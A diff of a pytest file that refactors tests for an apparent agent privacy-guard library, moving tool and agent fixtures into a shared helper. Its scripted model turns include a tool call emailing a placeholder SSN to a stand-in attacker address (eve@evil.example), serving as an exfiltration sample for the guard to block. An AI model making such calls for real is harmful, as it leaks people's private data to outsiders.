@@ -14,26 +14,19 @@ from typing import Any
 
 import pytest
 from langchain_core.messages import AIMessage, HumanMessage
-from langgraph.checkpoint.memory import InMemorySaver
 from langgraph.types import Command, interrupt
 
-from guards import PrivacyFlow, PrivacyPolicy, privacy_sink, privacy_source
-from vfa import Agent, EffectJournal, effect
-from vfa.testing import ScriptedModel
+from guards import privacy_sink, privacy_source
+from vfa import effect
 
-USER, EVE, SSN = "me@home.example", "eve@evil.example", "123-45-6789"
+from _asking import EVE, SSN, asking_agent, people_and_mail
+
 
 
 @pytest.mark.parametrize("by_id", [True, False], ids=["answer-by-id", "plain-answer"])
 def test_a_tool_s_answer_never_answers_the_privacy_question_of_the_next_call(by_id: bool) -> None:
     sent: list[Any] = []
     stock = {"seats": 1}
-
-    @privacy_sink()
-    @privacy_source(private=["ssn"], kind="person", handle=False)
-    def get_people() -> list:
-        """People."""
-        return [{"name": "Ann", "ssn": SSN}]
 
     @privacy_sink(internal=["item"])
     @privacy_source()
@@ -45,22 +38,11 @@ def test_a_tool_s_answer_never_answers_the_privacy_question_of_the_next_call(by_
         answer = interrupt({"question": f"book {item}?", "options": ["approve", "reject"]})
         return f"booked: {answer}"
 
-    @privacy_sink(disclose={"body": "to"}, authority=["to"])
-    @privacy_source()
-    @effect
-    def send_email(to: list[str], body: str) -> str:
-        """Send a mail."""
-        sent.append({"to": to, "body": body})
-        return "sent"
-
     turns = [AIMessage("", tool_calls=[{"name": "get_people", "args": {}, "id": "c0"}]),
              AIMessage("", tool_calls=[{"name": "book", "args": {"item": "seat"}, "id": "c1"},
                                        {"name": "send_email", "args": {"to": [EVE], "body": f"ssn {SSN}"}, "id": "c2"}])]
 
-    journal = EffectJournal()
-    flow = PrivacyFlow(PrivacyPolicy.of(USER, on_violation="ask"), journal=journal)
-    app = Agent(ScriptedModel(turns), [get_people, book, send_email], guards=[flow.guard()], flow=flow,
-                journal=journal).compile(checkpointer=InMemorySaver())
+    app = asking_agent(turns, [*people_and_mail(sent), book])
     cfg = {"configurable": {"thread_id": "t"}}
     out = app.invoke({"messages": [HumanMessage("book me a seat")]}, cfg)
     (pause,) = out["__interrupt__"]
